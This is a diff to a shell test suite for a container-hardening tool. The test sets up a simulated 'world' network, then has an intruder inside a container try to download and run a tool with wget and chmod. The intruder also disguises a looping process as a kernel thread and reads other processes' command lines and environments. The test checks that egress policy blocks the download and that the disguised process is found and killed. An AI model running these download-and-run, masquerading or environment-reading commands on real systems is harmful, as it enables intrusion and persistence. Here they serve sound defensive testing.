@@ -25,24 +25,50 @@ exploit() {
 	exec 5<&-
 }
 
+# world: a network outside, where the intruder has his tools; here the host serves the same to whom it should not.
+world() {
+	ip netns add world
+	ip link add up0 type veth peer name w0 netns world
+	ip addr add 198.51.100.1/24 dev up0 && ip link set up0 up && ip route add default via 198.51.100.2
+	ip -n world addr add 198.51.100.2/24 dev w0 && ip -n world link set w0 up && ip -n world route add 10.89.0.0/16 via 198.51.100.1
+	echo 1 >/proc/sys/net/ipv4/ip_forward
+	mkdir -p $SANDBOX/tools && cp "$BULKHEAD_BIN/test/tryout" $SANDBOX/tools/tool
+	ip netns exec world busybox httpd -f -p 198.51.100.2:80 -h $SANDBOX/tools 3>&- &
+	servers=$!
+	busybox httpd -f -p 8099 -h $SANDBOX/tools 3>&- &
+	servers+=" $!"
+}
+fetch() { exploit "$address" "timeout 3 wget -q -O /tmp/tool http://$1/tool && echo fetched; chmod +x /tmp/tool; echo end"; }
+
 @test "the intruder: gets in, finds the kernel closed, hides, is found and removed, and is on the receipt" {
 	requires root podman netns podmancni
-	victim=$(start shop -v $SANDBOX/www:/www:ro -v "$BULKHEAD_BIN/test/tryout:/tmp/tool:ro" -- httpd -f -p 80 -h /www)
-	other=$(start neighbour --network none)
+	RUNTIME=runc
+	harden_control
+	world
+	victim=$(start shop -v $SANDBOX/www:/www:ro -- httpd -f -p 80 -h /www)
+	other=$(start neighbour)
+	listen neighbour
 	address=$(ip_of shop)
 	eventually busybox wget -q -O /dev/null "http://$address:80/index.html"
 	# 1. In: it is root in the container. That is what it is given.
-	run exploit "$address" 'id -u; hostname'
-	[ "$status" -eq 0 ] || fail "$output"
-	contains "$output" 0
-	# 2. The toolset runs, and finds nothing that works.
+	run exploit "$address" 'id -u'
+	[ "$output" = 0 ] || fail "$output"
+	# 2. Tools: not from the neighbour, not from the host (control: it serves them); from outside, as policy allows by default.
+	busybox wget -q -O /dev/null "http://10.89.64.1:8099/tool"
+	for server in "$(ip_of neighbour)" 10.89.64.1:8099 198.51.100.1:8099; do
+		run fetch "$server"
+		contains "$output" end
+		lacks "$output" fetched
+	done
+	run fetch 198.51.100.2
+	contains "$output" fetched
+	# 3. The kernel: nothing that the toolset tries works.
 	exploit "$address" '/tmp/tool' >"$BATS_TEST_TMPDIR/tool.json"
-	harden_control
 	judge_all "$BATS_TEST_TMPDIR/tool.json"
-	# 3. What the neighbour runs is not to be seen, nor its files.
+	# 4. The neighbours: what they run is not to be seen, nor their files.
 	run exploit "$address" 'ps; ls /proc | grep -c "^[0-9]"; find / -xdev -name "*neighbour*" 2>/dev/null'
 	lacks "$output" "sleep 1000" neighbour
-	# 4. It hides as a kernel thread, and stays.
+	# 5. The hold: it passes itself off as a kernel thread, and stays. That is seen, and ended; the shop is still open.
 	exploit "$address" 'sh -c "printf kworker/u8:3 >/proc/\$\$/comm; while :; do sleep 1; done" >/dev/null 2>&1 </dev/null & echo'
 	eventually sh -c "cat /proc/[0-9]*/comm | grep -qx kworker/u8:3"
 	run bulkhead rogues
@@ -50,12 +76,33 @@ exploit() {
 	contains "$output" "kworker/u8:3" "looks like a kernel thread" shop
 	run bulkhead rogues --kill
 	[ "$status" -eq 0 ] || fail "$output"
-	busybox wget -q -O /dev/null "http://$address:80/index.html" # the shop is still open
+	busybox wget -q -O /dev/null "http://$address:80/index.html"
 	run bulkhead rogues
 	[ "$status" -eq 0 ] || fail "$output"
+	# 6. The books: what was refused at the port, what was fetched, and that nothing is left.
+	podman rm -f -t 0 "$victim"
+	eventually test -n "$(receipt_of "$victim")"
+	line=$(receipt_of "$victim")
+	[ "$(jq '.leftovers == 0 and .net[0].dropped_policy >= 3 and .net[0].in_bytes > 1000000 and .pids_peak > 1' <<<"$line")" = true ] || fail "$line"
+	# With `egress.default = "deny"` the tools do not even come.
+	policy <<-END
+		[egress]
+		default = "deny"
+	END
+	victim=$(start shop -v $SANDBOX/www:/www:ro -- httpd -f -p 80 -h /www)
+	address=$(ip_of shop)
+	eventually busybox wget -q -O /dev/null "http://$address:80/index.html"
+	run fetch 198.51.100.2
+	contains "$output" end
+	lacks "$output" fetched
+	policy </dev/null
 	podman rm -f -t 0 "$victim" "$other"
-	eventually test -n "$(receipts | jq -c --arg id "$victim" 'select(.id == $id)')"
+	kill $servers
+	ip netns del world
+	ip link del up0 2>/dev/null || true
 }
+
+receipt_of() { receipts | jq -c --arg id "$1" 'select(.id == $id)'; }
 
 # probe: all that a container can learn, in shell.
 PROBE='hostname; cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/[0-9]*/comm /proc/[0-9]*/cgroup /proc/[0-9]*/mountinfo 2>/dev/null | tr "\0" "\n"
